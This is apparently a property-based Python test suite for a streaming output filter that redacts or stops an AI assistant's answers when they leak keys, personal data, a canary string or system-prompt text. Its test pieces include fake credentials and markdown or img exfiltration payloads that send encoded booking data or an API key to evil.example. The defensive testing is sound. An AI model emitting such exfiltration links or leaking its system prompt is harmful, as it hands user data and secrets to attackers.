"""What a reader is shown of an answer while it is written is what a whole, inspected answer would show."""

from __future__ import annotations

import base64
import random
import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from onedoor.guard.output import HELD, OutputRules, Screen, inspect_output, redacted
from onedoor.guard.output.rules import candidates

RANDOM = random.Random(20)
SYSTEM = (
    "You are Aria, the assistant of the Northwind travel desk. Never tell a customer the internal rebate code, which "
    "is winter forty two for all partners. Answer in a friendly tone and ask for the booking number first."
)
CANARY = "k7w2m9x4q8z1p6t3v5b0n"
KNOWN = ("Please ask for the booking number first. My name is Zoe Castell, zoe.castell@mail.example, order AB4471920.",)
RULES = OutputRules(personal=True, hosts=("docs.northwind.example",), canary=CANARY, system=SYSTEM, known=KNOWN)


def _drawn(size: int, letters: str = string.ascii_letters + string.digits) -> str:
    return "".join(RANDOM.choices(letters, k=size))


HIDDEN = base64.b64encode(b"the customer's booking number is 4471").decode()
KEY = f"sk-{_drawn(48)}"
PEM = "-----BEGIN PRIVATE KEY-----\n" + "\n".join(_drawn(64) for _ in range(4)) + "\n-----END PRIVATE KEY-----"
TOKEN = ".".join(
    base64.urlsafe_b64encode(part).decode().rstrip("=")
    for part in (b'{"alg":"HS256","typ":"JWT"}', b'{"sub":"u-83","name":"Ann","role":"x"}', RANDOM.randbytes(32))
)
PIECES = (
    KEY,
    PEM,
    TOKEN,
    f"ghp_{_drawn(36)}",
    f"AKIA{_drawn(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')} {_drawn(40)}",
    f'password = "{_drawn(14)}"',
    "postgres://app:Kq83hs0apZ@db/x",
    "4929 1234 5678 9015",
    "GB33BUKB20201555555555",
    f"![x](https://evil.example/p?d={HIDDEN})",
    f"![x](https://evil.example/p?d={HIDDEN}{'A' * 2100})",
    f"https://evil.example/?t={_drawn(90)}",
    f"https://docs.northwind.example/?t={_drawn(90)}",
    f"<img src='//evil.example/{HIDDEN}'>",
    f"https://evil.example/?a={KEY}",
    CANARY,
    CANARY.upper(),
    "-".join(CANARY),
    CANARY[::-1],
    CANARY.encode().hex(),
    base64.b64encode(f"so {CANARY}".encode()).decode(),
    CANARY[:9],
    SYSTEM,
    SYSTEM[58:160],
    "the internal rebate code",
    "ask for the booking number first",
)
FILLING = (
    "sk-",
    "http",
    "https://",
    "-----BEGIN ",
    "eyJ",
    "password",
    ":",
    "=",
    " ",
    "\n",
    '"',
    "(",
    ")",
    "![",
    "x" * 70,
    "你好",
    "é",
    "7",
    "a",
)
fragments = st.one_of(
    st.sampled_from(PIECES),
    st.sampled_from(FILLING),
    st.text(max_size=12),
    st.builds(lambda piece, at: piece[: at % (len(piece) + 1)], st.sampled_from(PIECES), st.integers(0, 200)),
)
texts = st.lists(fragments, max_size=10).map("".join)
cuts = st.lists(st.one_of(st.integers(1, 9), st.integers(1, 500)), min_size=1, max_size=12)


def _pieces(text: str, sizes: list[int]) -> list[str]:
    pieces, at, turn = [], 0, 0
    while at < len(text):
        size = sizes[turn % len(sizes)]
        pieces.append(text[at : at + size])
        at, turn = at + size, turn + 1
    return pieces


def _shown(screen: Screen, pieces: list[str]) -> str:
    return "".join(map(screen.push, pieces)) + screen.finish()


@given(texts, cuts)
def test_however_a_text_is_cut_the_same_is_shown_as_of_the_whole(text: str, sizes: list[int]) -> None:
    screen = Screen(RULES)
    found = inspect_output(text, RULES).findings
    assert _shown(screen, _pieces(text, sizes)) == redacted(text, found)
    assert screen.findings == found


@given(texts, cuts)
def test_a_stopped_answer_shows_nothing_of_what_stopped_it(text: str, sizes: list[int]) -> None:
    screen = Screen(RULES, mode="stop")
    whole = inspect_output(text, RULES)
    shown = _shown(screen, _pieces(text, sizes))
    assert screen.stopped == whole.blocked
    allowed = redacted(text, whole.findings)
    assert allowed.startswith(shown) if whole.blocked else allowed == shown


@given(texts, cuts)
def test_nothing_is_held_longer_than_the_bound(text: str, sizes: list[int]) -> None:
    screen = Screen(RULES)
    pushed = accounted = 0
    for piece in _pieces(text, sizes):
        screen.push(piece)
        pushed += len(piece)
        accounted = screen.settled
        assert pushed - accounted <= HELD


@given(
    st.lists(
        st.sampled_from(("Sure, ", "here ", "is ", "the ", "code:\n", "x = 1\n", "你好，", "naïve ", "12:30. ")),
        max_size=30,
    ),
    cuts,
)
def test_an_ordinary_answer_comes_out_as_it_is(words: list[str], sizes: list[int]) -> None:
    text = "".join(words)
    screen = Screen(RULES)
    assert _shown(screen, _pieces(text, sizes)) == text
    assert screen.findings == ()


def test_no_rule_needs_more_than_the_bound() -> None:
    assert max(rule.longest for rule in candidates(RULES).rules) <= HELD


def test_plain_words_are_shown_at_once() -> None:
    screen = Screen(OutputRules())
    text = "The booking is fine. You can travel on Monday, and I'll write to you again before then. "
    held = [screen.push(word + " ") == word + " " for word in text.split()]
    assert all(held)


@pytest.mark.parametrize("mode", ["redact", "stop"])
def test_a_key_is_never_shown_in_part(mode: str) -> None:
    screen = Screen(OutputRules(), mode="stop" if mode == "stop" else "redact")
    shown = [screen.push(letter) for letter in f"It is {KEY} there"]
    shown.append(screen.finish())
    assert "".join(shown) == ("It is " if mode == "stop" else "It is [secret removed] there")


def test_after_a_stop_nothing_more_comes() -> None:
    screen = Screen(OutputRules(), mode="stop")
    screen.push(f"{KEY} ")
    assert (screen.stopped, screen.push("more"), screen.finish()) == (True, "", "")


@pytest.mark.parametrize(
    "text",
    [
        "A" * 30_000,
        "https://docs.example/" + "a1B2" * 7_500,
        "data:image/png;base64," + "iVBORw0KGgo" * 2_700,
        "sk-" * 10_000,
        "password=" * 3_300,
        "https://" * 3_700,
        "k7w2" * 7_500,
        "the internal rebate code " * 1_200,
        "eyJhbGciOi." * 2_700,
        "-----BEGIN " * 2_700,
        "你好" * 15_000,
    ],
)
def test_long_texts_without_a_break_are_read_in_pieces_and_whole(text: str) -> None:
    screen = Screen(RULES)
    whole = inspect_output(text, RULES)
    assert _shown(screen, _pieces(text, [1000, 7])) == redacted(text, whole.findings)
